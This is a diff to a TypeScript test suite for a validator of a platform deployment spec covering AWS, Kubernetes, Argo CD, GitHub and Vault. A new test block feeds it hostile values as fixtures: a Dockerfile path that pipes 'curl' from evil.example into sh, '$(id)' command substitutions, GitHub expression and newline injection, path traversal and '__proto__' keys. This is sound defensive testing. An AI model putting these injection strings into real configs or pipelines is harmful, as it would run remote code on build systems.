@@ -29,7 +29,7 @@ describe('field rules', () => {
     ['an unknown field (a typo)', (s: any) => (s.apps[0].replica = 3), 'apps[0].replica', /unknown field; allowed here: .*replicas/],
     ['a namespace that is not a DNS label', (s: any) => (s.apps[0].namespace = 'Main'), 'apps[0].namespace', /'Main' is not a DNS-1123 label/],
     ['a platform name over 20 characters', (s: any) => (s.name = 'a'.repeat(21)), 'name', /21 characters; at most 20/],
-    ['a malformed region', (s: any) => (s.aws.region = 'tokyo'), 'aws.region', /'tokyo' is not an AWS region/],
+    ['a malformed region', (s: any) => (s.aws.region = 'tokyo'), 'aws.region', /'tokyo' is not allowed; use an AWS region such as ap-northeast-1/],
     ['a malformed account', (s: any) => (s.aws.account = '1234'), 'aws.account', /not a 12-digit AWS account id/],
     ['an account given as a number', (s: any) => (s.aws.account = 123456789012), 'aws.account', /expected a string, got the number 123456789012/],
     ['an unsupported Kubernetes version', (s: any) => (s.cluster.version = '1.20'), 'cluster.version', /'1.20' is not allowed; use one of 1.32, 1.33, 1.34, 1.35/],
@@ -73,12 +73,12 @@ describe('rules across fields', () => {
     ['a remote key outside the app prefix', (s: any) => (s.apps[0].secret.remoteKey = 'database-secrets'), 'apps[0].secret.remoteKey', /outside the prefix 'sandbox\/main\/'/],
     ['a tag pattern matching every tag', (s: any) => (s.apps[0].ci.tagPatterns = ['*']), 'apps[0].ci.tagPatterns[0]', /matches every tag/],
     ['a CI role nobody may assume', (s: any) => (s.apps[0].ci.tagPatterns = []), 'apps[0].ci', /no tag pattern, branch, environment or pull request/],
-    ['a repository id without an owner id', (s: any) => (s.apps[0].ci.repositoryId = '42'), 'apps[0].ci.repositoryId', /set github.ownerId/],
+    ['the immutable subject form without the owner id', (s: any) => delete s.github.ownerId, 'github.ownerId', /is required by apps\[0\].ci \(immutable OIDC subject form\); find it with 'gh api repos\/example-org\/sandbox-app --jq .owner.id'/],
     ['image update settings with another delivery', (s: any) => (s.apps[0].delivery = 'pull-request'), 'apps[0].imageUpdate', /applies only to delivery 'image-updater'/],
     ['an invalid allowTags expression', (s: any) => (s.apps[0].imageUpdate.allowTags = '^v(1'), 'apps[0].imageUpdate.allowTags', /not a valid regular expression/],
     ['a shared ECR repository', (s: any) => (s.apps[0].containers[1].repository = 'sandbox/main/app'), 'apps[0].containers[1].repository', /'sandbox\/main\/app' is already used by apps\[0\].containers\[0\].repository/],
-    ['an app named like a platform Application', (s: any) => (s.apps[0].name = 'external-secrets'), 'apps[0].name', /'external-secrets' is the name of a platform Argo CD Application/],
-    ['an app named like another app secrets Application', (s: any) => s.apps.push({ name: 'main-secrets', host: 'x.example.com', ci: { repository: 'x' }, containers: [{ name: 'x', port: 80 }] }), 'apps[1].name', /the secrets of app 'main'/],
+    ['an app named like a platform Application', (s: any) => (s.apps[0].name = 'argocd-image-updater'), 'apps[0].name', /'argocd-image-updater' is the name of a platform Argo CD Application/],
+    ['an app named like another app secrets Application', (s: any) => s.apps.push({ name: 'main-secrets', host: 'x.example.com', ci: { repository: 'x', repositoryId: '3' }, containers: [{ name: 'x', port: 80 }] }), 'apps[1].name', /the secrets of app 'main'/],
     ['digest updates with a migration', (s: any) => (s.apps[0].imageUpdate.strategy = 'digest'), 'apps[0].imageUpdate.strategy', /no tag for the migration to follow/],
     ['minSize above maxSize', (s: any) => (s.cluster.nodes = { minSize: 5, maxSize: 3, desiredSize: 4 }), 'cluster.nodes.minSize', /5 is larger than maxSize 3/],
     ['a Vault backend without Vault settings', (s: any) => (s.secrets = { backend: 'vault' }), 'secrets.vault', /is required when secrets.backend is 'vault'/],
@@ -107,5 +107,100 @@ describe('reporting', () => {
     expect(error!.problems.map((p) => p.path)).toEqual(TEN_MISTAKE_PATHS);
     expect(error!.message.split('\n')[0]).toBe('platform.yaml: 10 problems');
     expect(error!.message).toContain("  - apps[0].namespace: 'Main' is not a DNS-1123 label");
+  });
+});
+
+describe('hostile input is refused with the field and the value named', () => {
+  test.each([
+    ['a Dockerfile path with a shell command', (s: any) => (s.apps[0].containers[0].dockerfile = 'Dockerfile; curl -s https://evil.example/x | sh #'), 'apps[0].containers[0].dockerfile'],
+    ['a Dockerfile path with a GitHub expression', (s: any) => (s.apps[0].containers[0].dockerfile = '${{ github.event.head_commit.message }}'), 'apps[0].containers[0].dockerfile'],
+    ['a Dockerfile path with a newline', (s: any) => (s.apps[0].containers[0].dockerfile = 'Dockerfile\nrun: echo injected'), 'apps[0].containers[0].dockerfile'],
+    ['a migration Dockerfile path with a command substitution', (s: any) => (s.apps[0].migration.dockerfile = 'x$(id)'), 'apps[0].migration.dockerfile'],
+    ['a Dockerfile path outside the repository', (s: any) => (s.apps[0].containers[0].dockerfile = '../secrets/Dockerfile'), 'apps[0].containers[0].dockerfile'],
+    ['a Vault address with a shell payload', (s: any) => (s.secrets = { backend: 'vault', vault: { address: 'https://vault";$(id);"' } }), 'secrets.vault.address'],
+    ['a region that does not exist', (s: any) => (s.aws.region = 'zz-nowhere-7'), 'aws.region'],
+    ['a host label of 64 characters', (s: any) => (s.apps[0].host = `${'a'.repeat(64)}.example.com`), 'apps[0].host'],
+    ['an empty migration command', (s: any) => (s.apps[0].migration.command = ['']), 'apps[0].migration.command[0]'],
+    ['a 5 MB environment value', (s: any) => (s.apps[0].containers[0].env = { BIG: 'x'.repeat(5 * 1024 * 1024) }), 'apps[0].containers[0].env.BIG'],
+    ['a VPC CIDR with an octet above 255', (s: any) => (s.cluster.vpcCidr = '999.10.0.0/16'), 'cluster.vpcCidr'],
+  ])('%s', (_name, mutate, path) => {
+    const problems = problemsAfter(mutate);
+    expect(problems).toHaveLength(1);
+    expect(problems[0].startsWith(`${path}: `)).toBe(true);
+    // One line, however hostile the value: newlines are shown escaped and long values cut.
+    expect(problems[0]).not.toContain('\n');
+    expect(problems[0].length).toBeLessThan(400);
+  });
+
+  test('a real path with a space is a valid Dockerfile path', () => {
+    expect(problemsAfter((s) => (s.apps[0].containers[0].dockerfile = 'docker/my app.Dockerfile'))).toEqual([]);
+  });
+
+  test.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty'])('%s is refused as a field name at the top, in an app and as an env key', (key) => {
+    const spec = sandboxSpec();
+    // Defined as own properties, the way a YAML or JSON parser produces them.
+    Object.defineProperty(spec, key, { value: { polluted: true }, enumerable: true });
+    Object.defineProperty(spec.apps[0], key, { value: 'x', enumerable: true });
+    Object.defineProperty(spec.apps[0].containers[0].env ?? (spec.apps[0].containers[0].env = {}), key, { value: 'x', enumerable: true });
+    const problems = validateSpec(spec).map((p) => `${p.path}: ${p.message}`);
+    expect(problems).toEqual([
+      `${key}: '${key}' is not allowed as a field name`,
+      `apps[0].${key}: '${key}' is not allowed as a field name`,
+      `apps[0].containers[0].env.${key}: '${key}' is not allowed as a key`,
+    ]);
+  });
+});
+
+describe('output that would break at run time is refused', () => {
+  const secondApp = (s: any, extra: any = {}) =>
+    s.apps.push({ name: 'admin', host: 'admin.example.com', ci: { repository: 'admin', repositoryId: '7' }, containers: [{ name: 'web', port: 8080 }], ...extra });
+
+  test.each([
+    // aws-load-balancer-controller v3.5.0 pkg/ingress/model_build_load_balancer.go: "conflicting scheme"
+    // fails the whole IngressGroup when its members' explicit schemes differ.
+    ['an internal app in an internet-facing app\'s ALB group', (s: any) => secondApp(s, { ingress: { internetFacing: false, groupName: 'sandbox' } }), 'apps[1].ingress.groupName', /the ALB group of apps\[0\], which is internet-facing; .*disagree on the scheme/],
+    ['two apps on one host', (s: any) => secondApp(s, { host: 'sandbox.example.com' }), 'apps[1].host', /already the host of apps\[0\]; .*ExternalDNS/],
+    ['two containers on one port', (s: any) => (s.apps[0].containers[1].port = 8080), 'apps[0].containers[1].port', /8080 is already the port of containers\[0\]/],
+    ['one variable in env and secretEnv', (s: any) => (s.apps[0].containers[0].env = { DB_HOST: 'x' }), 'apps[0].containers[0].secretEnv.DB_HOST', /also set in env/],
+    ['a tag pattern starting with a wildcard', (s: any) => (s.apps[0].ci.tagPatterns = ['*.*']), 'apps[0].ci.tagPatterns[0]', /starts with a wildcard, so tags of any name match it/],
+    ['repository names that differ only by case', (s: any) => secondApp(s, { ci: { repository: 'Sandbox-App', repositoryId: '7' } }), 'apps[1].ci.repository', /names the same GitHub repository as apps\[0\].ci.repository \('sandbox-app'\)/],
+    ['app names that give the same CloudFormation outputs', (s: any) => { s.apps[0].name = 'web-1'; secondApp(s, { name: 'web1' }); }, 'apps[1].name', /'web1' and 'web-1' \(apps\[0\]\) give the same CloudFormation output names \(Web1CiRoleArn/],
+    ['a VPC CIDR with host bits set', (s: any) => (s.cluster.vpcCidr = '10.0.0.1/16'), 'cluster.vpcCidr', /has host bits set; .* write 10.0.0.0\/16/],
+    ['a Vault remote key leaving the app path', (s: any) => { s.secrets = { backend: 'vault', vault: { address: 'https://vault.example.com:8200' } }; s.apps[0].secret.remoteKey = '../../other-team/db'; }, 'apps[0].secret.remoteKey', /'\.\.' segment/],
+    ['a Vault remote key of another app', (s: any) => { s.secrets = { backend: 'vault', vault: { address: 'https://vault.example.com:8200' } }; s.apps[0].secret.remoteKey = 'other-team/db'; }, 'apps[0].secret.remoteKey', /outside the app's Vault path 'main\/main'/],
+    ['the stack name of the platform stack', (s: any) => (s.apps[0].stack = 'platform'), 'apps[0].stack', /would name the platform stack sandbox-platform/],
+    ['a wildcard action for the migration', (s: any) => (s.apps[0].migration.permissions = [{ actions: ['s3:*'], resources: ['arn:aws:s3:::b/*'] }]), 'apps[0].migration.permissions[0].actions[0]', /'s3:\*' has a wildcard/],
+    ['repository credentials on a public repository', (s: any) => (s.github.manifestRepository.access = 'public'), 'github.manifestRepository.credentials', /applies only to a private repository/],
+    ['repository credentials outside the readable prefix', (s: any) => (s.github.manifestRepository.credentials.secretName = 'team/creds'), 'github.manifestRepository.credentials.secretName', /outside the prefix 'sandbox\/argocd\/'/],
+    ['an OIDC provider of another account', (s: any) => (s.github.oidcProviderArn = 'arn:aws:iam::999999999999:oidc-provider/token.actions.githubusercontent.com'), 'github.oidcProviderArn', /in account 999999999999, not in aws.account 123456789012/],
+    ['node types of two architectures', (s: any) => (s.cluster.nodes.instanceTypes = ['t3.medium', 'm7g.large']), 'cluster.nodes.instanceTypes', /mix x86_64 and arm64/],
+  ])('%s', (_name, mutate, path, message) => {
+    expectOneProblem(mutate, path, message);
+  });
+
+  test('internal and internet-facing apps get ALB groups of their own by default', () => {
+    expect(problemsAfter((s) => secondApp(s, { ingress: { internetFacing: false } }))).toEqual([]);
+  });
+
+  test('two apps built from one repository (a monorepo) are accepted', () => {
+    expect(problemsAfter((s) => secondApp(s, { ci: { repository: 'sandbox-app', repositoryId: '200000001' } }))).toEqual([]);
+  });
+});
+
+describe('every problem at once', () => {
+  test('the rules across fields run even when some fields have problems of their own', () => {
+    const problems = problemsAfter((s) => {
+      s.aws.region = 'tokyo'; // a field's own rule
+      s.apps[0].replicas = 'two'; // a field's own rule, in the app the next line checks
+      s.apps[0].containers[0].env = { DB_HOST: 'x' }; // a rule across fields
+      s.argocd = { syncPolicy: { automated: false, prune: true } }; // a rule across fields
+    });
+    expect(problems.map((p) => p.split(':')[0])).toEqual(['aws.region', 'apps[0].replicas', 'argocd.syncPolicy.prune', 'apps[0].containers[0].secretEnv.DB_HOST']);
+  });
+
+  test('a field with its own problem is not blamed again by a rule across fields', () => {
+    const problems = problemsAfter((s) => (s.argocd = { managed: true, identityCenter: { instanceArn: 'ssoins-1' } }));
+    expect(problems).toHaveLength(1);
+    expect(problems[0]).toMatch(/^argocd.identityCenter.instanceArn: /);
   });
 });
